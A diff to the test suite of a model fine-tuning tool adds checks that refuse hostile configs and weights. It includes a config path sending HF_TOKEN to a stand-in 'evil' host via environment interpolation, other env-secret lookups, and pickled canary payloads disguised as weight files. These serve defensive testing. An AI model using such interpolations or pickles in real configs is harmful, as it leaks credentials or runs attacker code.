@@ -19,10 +19,11 @@ import pytest
 from tuneloom import cli
 from tuneloom.config import FORBIDDEN_KEYS, build
 from tuneloom.data.rows import open_rows
-from tuneloom.errors import ConfigError, TuneloomError
+from tuneloom.errors import ConfigError, DataError, TuneloomError
 from tuneloom.launch.config import JobConfig, LaunchConfig
 from tuneloom.launch.slurm import header, render
 from tuneloom.redact import redact, redacted
+from tuneloom.registry.adapters import model_folder
 from tuneloom.registry.digests import weights_digest
 from tuneloom.testing import Gang, small_config
 from tuneloom.train import checkpoint
@@ -232,6 +233,9 @@ CODE_FILES = {
     f'hydra: {{callbacks: {{x: "{DECODED}"}}}}': "nothing of Hydra's own is set here",
     "hydra: {hydra_logging: {handlers: {x: {class: os.mkdir}}}}": "nothing of Hydra's own",
     "defaults: [{/model: ../../x}]": "write no '..'",
+    "data: {path: 'https://evil/${oc.env:HF_TOKEN}.jsonl'}": "takes no secret from the environment",
+    "data: {path: 'x/${ oc.env :my_api_key,y}'}": "takes no secret from the environment",
+    "a: HF_TOKEN\ndata: {path: '${oc.env:${a}}'}": "takes no secret from the environment",
 }
 """Experiments of a config folder, and what is said of them."""
 
@@ -417,7 +421,7 @@ def test_pickled_weights_under_any_name_run_nothing(lab: Path, tmp_path: Path) -
                 (folder / name).write_bytes(pickle.dumps(Payload(canary)))
             config = ModelConfig(path=str(folder), dtype="fp32")
             if name.endswith(".safetensors"):
-                expected, said = (SafetensorError, OSError), "header|no file named"
+                expected, said = (SafetensorError, DataError), "header|found none"
             else:
                 expected, said = (ConfigError,), "pickled weights are not read"
             with pytest.raises(expected, match=said):
@@ -517,6 +521,18 @@ def test_models_that_bring_code_are_refused_by_name(lab: Path, tmp_path: Path) -
     for folder in folders_with_code(lab, tmp_path, tmp_path / "canary"):
         with pytest.raises(ConfigError, match="remote code"):
             locate(ModelConfig(path=str(folder)))
+
+
+def test_a_base_that_names_a_pickle_as_its_weights_is_refused(lab: Path, tmp_path: Path) -> None:
+    """transformers reads that file before any safetensors (S2)."""
+    folder = tmp_path / "base"
+    shutil.copytree(lab / "base", folder)
+    described = json.loads((folder / "config.json").read_text())
+    described["transformers_weights"] = "adapter_model.bin"
+    (folder / "config.json").write_text(json.dumps(described))
+    for read in (lambda: locate(ModelConfig(path=str(folder))), lambda: model_folder(str(folder))):
+        with pytest.raises(ConfigError, match="names a weights file of its own"):
+            read()
 
 
 ANSWERED = """
